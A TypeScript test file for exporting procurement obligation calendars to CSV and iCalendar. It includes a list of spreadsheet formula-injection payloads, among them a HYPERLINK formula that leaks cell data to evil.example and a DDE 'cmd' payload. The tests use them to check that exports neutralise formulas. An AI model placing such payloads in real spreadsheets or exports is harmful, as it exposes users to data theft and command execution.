import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ICAL from "ical.js";
import { describe, expect, test } from "vitest";
import { fixtureLibrary } from "../../test/fixtures/library.js";
import { merge, selectWith, US_AGENCY } from "../../test/helpers.js";
import { addMonths } from "../dates.js";
import type { Selection } from "../model/selection.js";
import {
  type CalendarEntry,
  calendarToCsv,
  calendarToICalendar,
  escapeText,
  foldLine,
  obligationCalendar,
} from "./index.js";

const lib = fixtureLibrary();
const usPlan = (over: unknown = {}) =>
  selectWith(
    lib,
    merge(
      merge(US_AGENCY, {
        procurement: { outsideBuyerCountryValue: { amount: 900_000, currency: "USD" }, durationMonths: 36 },
      }),
      over,
    ),
  );

function entry(over: Partial<CalendarEntry>): CalendarEntry {
  return {
    tender: { title: "Cleaning", buyer: "Agency", reference: "REF-1" },
    obligation: "audit-supplier-recurring",
    topic: "audit",
    party: "supplier",
    action: "Host an audit",
    timingText: "Every year from the start date",
    when: "dated",
    date: "2026-01-01",
    dateNote: "n",
    evidence: [],
    clauses: ["c"],
    satisfies: ["gb: PPN 009"],
    contractStart: "2025-01-01",
    ...over,
  };
}

describe("obligationCalendar", () => {
  test("recurring obligations are expanded over the term; one-offs dated at or before the start; events undated", () => {
    const s = usPlan();
    const cal = obligationCalendar(s);
    const annual = cal.filter((e) => e.obligation === "certification-supplier-recurring");
    // 36-month term from 2024-06-01 ends 2027-05-31: the 12th, 24th months fall in, the 36th (2027-06-01) does not.
    expect(annual.map((e) => [e.date, e.occurrence])).toEqual([
      ["2025-06-01", 1],
      ["2026-06-01", 2],
    ]);
    expect(cal.find((e) => e.obligation === "certification-supplier-before-award")).toMatchObject({
      when: "dated",
      date: "2024-05-31",
    });
    const incident = cal.find((e) => e.obligation === "incident-reporting-supplier-on-event");
    expect(incident).toMatchObject({ when: "on-event" });
    expect(incident?.date).toBeUndefined();
    expect(cal.find((e) => e.when === "ongoing")?.dateNote).toMatch(/2024-06-01 to 2027-05-31/);
    // Dated first in date order, then undated.
    const firstUndated = cal.findIndex((e) => e.when !== "dated");
    expect(cal.slice(firstUndated).every((e) => e.when !== "dated")).toBe(true);
    const dates = cal.slice(0, firstUndated).map((e) => e.date ?? "");
    expect([...dates].sort()).toEqual(dates);
  });

  test("high risk audits every 12 months (parameter drives the obligation timing)", () => {
    const s = usPlan({ risk: { level: "high", basis: "own" } });
    const audit = s.clauses.find((c) => c.id === "general-audit-rights");
    expect(audit?.parameters.auditFrequencyMonths).toMatchObject({ value: 12, default: 24 });
    expect(audit?.obligations[0]?.timing).toEqual({ kind: "recurring", everyMonths: 12 });
    const audits = obligationCalendar(s).filter((e) => e.obligation === "audit-supplier-recurring");
    expect(audits.map((e) => e.date)).toEqual(["2025-06-01", "2026-06-01"]);
  });

  test("no term given: only the first occurrence, said in the note", () => {
    const s = usPlan({ procurement: { durationMonths: undefined } });
    const annual = obligationCalendar(s).filter((e) => e.obligation === "certification-supplier-recurring");
    expect(annual).toHaveLength(1);
    expect(annual[0]?.dateNote).toMatch(/only the first occurrence/);
  });

  test("month arithmetic clamps to the end of the month", () => {
    expect(addMonths("2024-01-31", 1)).toBe("2024-02-29");
    expect(addMonths("2023-01-31", 1)).toBe("2023-02-28");
    expect(addMonths("2024-11-30", 3)).toBe("2025-02-28");
  });
});

describe("calendarToCsv", () => {
  test("RFC 4180: header, CRLF, quoting of commas, quotes and line breaks", () => {
    const csv = calendarToCsv([entry({ action: 'Report "promptly", then\nfollow up', evidence: ["Log", "Form A"] })]);
    const lines = csv.split("\r\n");
    expect(lines[0]).toBe(
      "date,when,occurrence,obligation,topic,party,action,timing,date_note,evidence,clauses,satisfies,tender_reference,tender_title,buyer",
    );
    expect(csv).toContain('"Report ""promptly"", then\nfollow up"');
    expect(csv).toContain(",Log; Form A,");
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.replace(/"[^"]*(?:""[^"]*)*"/g, "").includes("\n\n")).toBe(false);
  });
});

/** Cells that start a formula in a spreadsheet (OWASP's CSV-injection list), as custom clauses could write them. */
const FORMULAS = [
  "=1+1",
  "+2+3",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  "-",
];
const formulaEntries = () =>
  FORMULAS.map((f, i) =>
    entry({ obligation: `o${i}`, action: f, timingText: f, evidence: [f, "Log"], satisfies: [f] }),
  );

describe("calendarToCsv neutralises formulas", () => {
  test("a field starting with = + - @ tab or CR is prefixed with a single quote and quoted", () => {
    const csv = calendarToCsv(formulaEntries());
    const rows = csv.split("\r\n");
    expect(rows[1]).toBe(
      `2026-01-01,dated,,o0,audit,supplier,"'=1+1","'=1+1",n,"'=1+1; Log",c,"'=1+1",REF-1,Cleaning,Agency`,
    );
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")",`);
    expect(csv).toContain(`,"'\t=1+1",`);
    expect(csv).toContain(`,"'\r=1+1",`);
    expect(csv).toContain(`,"'-",`);
    // a formula character elsewhere in a field is harmless and stays as it is
    expect(calendarToCsv([entry({ action: "a=1+1, b", evidence: ["x@y"] })])).toContain(
      `,"a=1+1, b",Every year from the start date,n,x@y,`,
    );
  });
});

const sofficeAvailable =
  Boolean(process.env.CI) || spawnSync("sh", ["-c", "command -v soffice"], { stdio: "ignore" }).status === 0;
if (!sofficeAvailable) console.warn("soffice not found: skipping the LibreOffice Calc CSV test (it runs when CI=true)");

describe.skipIf(!sofficeAvailable)("LibreOffice Calc opens the CSV", () => {
  test("and evaluates no formula: every cell shows the text the calendar holds", () => {
    const dir = mkdtempSync(join(tmpdir(), "fairtender-csv-"));
    try {
      const entries = formulaEntries();
      writeFileSync(join(dir, "calendar.csv"), calendarToCsv(entries));
      execFileSync(
        "soffice",
        [
          `-env:UserInstallation=file://${join(dir, "profile")}`,
          "--headless",
          "--infilter=CSV:44,34,76", // comma, double quote, UTF-8
          "--convert-to",
          "html",
          "--outdir",
          dir,
          join(dir, "calendar.csv"),
        ],
        { stdio: "ignore", timeout: 120_000 },
      );
      const html = readFileSync(join(dir, "calendar.html"), "utf8");
      const rows = [...html.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((r) =>
        [...r[1]!.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((c) => cellText(c[1]!)),
      );
      expect(rows).toHaveLength(entries.length + 1);
      const shown = (v: string) => `'${v.replace(/\r/g, "\n")}`;
      entries.forEach((e, i) => {
        const row = rows[i + 1]!;
        expect(row[6], e.action).toBe(shown(e.action));
        expect(row[7], e.action).toBe(shown(e.timingText));
        expect(row[9], e.action).toBe(shown(e.evidence.join("; ")));
        expect(row[11], e.action).toBe(shown(e.satisfies[0]!));
      });
      expect(html).not.toMatch(/<a\s/i); // no HYPERLINK() evaluated
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 180_000);
});

/** The text of an HTML table cell as LibreOffice writes it. */
function cellText(inner: string): string {
  return inner
    .replace(/<br\s*\/?>/gi, "\n")
    .replace(/<[^>]+>/g, "")
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
    .replace(/&amp;/g, "&");
}

describe("calendarToICalendar", () => {
  const s: Selection = usPlan({ risk: { level: "high", basis: "own" } });
  const cal = obligationCalendar(s);
  const ics = calendarToICalendar(cal, { prodId: "-//Test//Fairtender//EN", uidDomain: "example.org" });

  test("parses with ical.js: one all-day VEVENT per dated entry, dates as computed", () => {
    const comp = new ICAL.Component(ICAL.parse(ics));
    const events = comp.getAllSubcomponents("vevent");
    const dated = cal.filter((e) => e.when === "dated");
    expect(events).toHaveLength(dated.length);
    const starts = events.map((e) => (e.getFirstPropertyValue("dtstart") as ICAL.Time).toString());
    expect(starts).toEqual(dated.map((e) => e.date));
    for (const e of events) {
      expect((e.getFirstPropertyValue("dtstart") as ICAL.Time).isDate).toBe(true);
      expect(e.getFirstPropertyValue("uid")).toMatch(/^[0-9a-f]{16}@example\.org$/);
      expect((e.getFirstPropertyValue("dtstamp") as ICAL.Time).toString()).toBe("2024-06-01T00:00:00Z");
    }
    expect(new Set(events.map((e) => e.getFirstPropertyValue("uid"))).size).toBe(events.length);
    expect(comp.getFirstPropertyValue("prodid")).toBe("-//Test//Fairtender//EN");
  });

  test("CRLF only, lines folded at 75 octets, deterministic", () => {
    expect(ics.replace(/\r\n/g, "").includes("\n")).toBe(false);
    expect(ics.replace(/\r\n/g, "").includes("\r")).toBe(false);
    const enc = new TextEncoder();
    for (const line of ics.split("\r\n")) expect(enc.encode(line).length).toBeLessThanOrEqual(75);
    expect(
      calendarToICalendar(obligationCalendar(usPlan({ risk: { level: "high", basis: "own" } })), {
        prodId: "-//Test//Fairtender//EN",
        uidDomain: "example.org",
      }),
    ).toBe(ics);
  });

  test("text with , ; \\ and new lines, and multi-byte characters, round-trips through a real parser", () => {
    const tricky = "Pay wages, overtime; keep C:\\records\nand answer in Tiếng Việt — «quickly» ".repeat(3);
    const out = calendarToICalendar([entry({ action: tricky, timingText: "Within 5 days, then; again" })]);
    const ev = new ICAL.Component(ICAL.parse(out)).getFirstSubcomponent("vevent");
    expect(ev?.getFirstPropertyValue("description")).toBe(
      `Tender: REF-1 Cleaning (Agency)\n${tricky}\nWhen: Within 5 days, then; again (n)\nClauses: c\nSatisfies: gb: PPN 009`,
    );
    expect(ev?.getFirstPropertyValue("summary")).toBe(
      "REF-1: Audit, monitoring and cooperation (supplier): Within 5 days, then; again",
    );
    expect(escapeText("a,b;c\\d\ne")).toBe("a\\,b\\;c\\\\d\\ne");
  });

  test("two tenders on the same dates never share a UID, and each calendar and event names its tender", () => {
    const a = usPlan({ procurement: { reference: "SAQMMA-26-R-0142" } });
    const b = usPlan({ procurement: { reference: "SAQMMA-26-R-0999" }, buyer: { name: "US Agency for Global Media" } });
    const c = usPlan({ procurement: { reference: undefined } });
    const d = usPlan({ procurement: { reference: undefined, title: "Guard services at a consulate" } });
    const parsed = [a, b, c, d].map((s) => {
      const ics = calendarToICalendar(obligationCalendar(s));
      return { s, ics, comp: new ICAL.Component(ICAL.parse(ics)) };
    });
    // the same dates: the calendars differ only by the tender
    const dates = (comp: ICAL.Component) =>
      comp.getAllSubcomponents("vevent").map((e) => (e.getFirstPropertyValue("dtstart") as ICAL.Time).toString());
    for (const { comp } of parsed) expect(dates(comp)).toEqual(dates(parsed[0]!.comp));
    const uids = parsed.map(({ comp }) =>
      comp.getAllSubcomponents("vevent").map((e) => e.getFirstPropertyValue("uid")),
    );
    expect(uids[0]!.length).toBeGreaterThan(3);
    expect(new Set(uids.flat()).size).toBe(uids.flat().length);
    for (const { s, comp } of parsed) {
      const p = s.profile.procurement;
      const label = p.reference ?? p.title;
      const name = `${p.reference ? `${p.reference} ` : ""}${p.title} (${s.profile.buyer.name}): obligations`;
      expect(comp.getFirstPropertyValue("name")).toBe(name);
      expect(comp.getFirstPropertyValue("x-wr-calname")).toBe(name);
      for (const ev of comp.getAllSubcomponents("vevent")) {
        expect(ev.getFirstPropertyValue("summary")).toMatch(
          new RegExp(`^${label.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: `),
        );
        expect(ev.getFirstPropertyValue("description")).toMatch(
          new RegExp(`^Tender: ${name.replace(/: obligations$/, "").replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}\n`),
        );
      }
    }
    // and the CSVs differ too: every row names the tender
    const csvA = calendarToCsv(obligationCalendar(a));
    const csvB = calendarToCsv(obligationCalendar(b));
    expect(csvA).not.toBe(csvB);
    for (const row of csvB.split("\r\n").slice(1, -1))
      expect(row.endsWith(",SAQMMA-26-R-0999,Guard services at an embassy,US Agency for Global Media")).toBe(true);
    // the same tender: byte-identical
    expect(calendarToICalendar(obligationCalendar(usPlan({ procurement: { reference: "SAQMMA-26-R-0142" } })))).toBe(
      parsed[0]!.ics,
    );
  });

  test("UIDs follow the tender and the obligation: a new title or new dates update the same events", () => {
    const uids = (over: unknown) =>
      new ICAL.Component(ICAL.parse(calendarToICalendar(obligationCalendar(usPlan(over)))))
        .getAllSubcomponents("vevent")
        .map((e) => e.getFirstPropertyValue("uid"));
    const base = uids({ procurement: { reference: "R-1" } });
    expect(uids({ procurement: { reference: "R-1", title: "Guard services, revised" } })).toEqual(base);
    expect(uids({ procurement: { reference: "R-1", startDate: "2025-03-01" } })).toEqual(base);
    expect(uids({ procurement: { reference: "R-2" } }).some((u) => base.includes(u))).toBe(false);
  });

  test("folding never splits a multi-byte character and keeps 75 octets", () => {
    const folded = foldLine(`DESCRIPTION:${"é".repeat(100)}`);
    const enc = new TextEncoder();
    for (const l of folded.split("\r\n")) expect(enc.encode(l).length).toBeLessThanOrEqual(75);
    expect(
      folded
        .split("\r\n")
        .map((l, i) => (i === 0 ? l : l.slice(1)))
        .join(""),
    ).toBe(`DESCRIPTION:${"é".repeat(100)}`);
  });
});
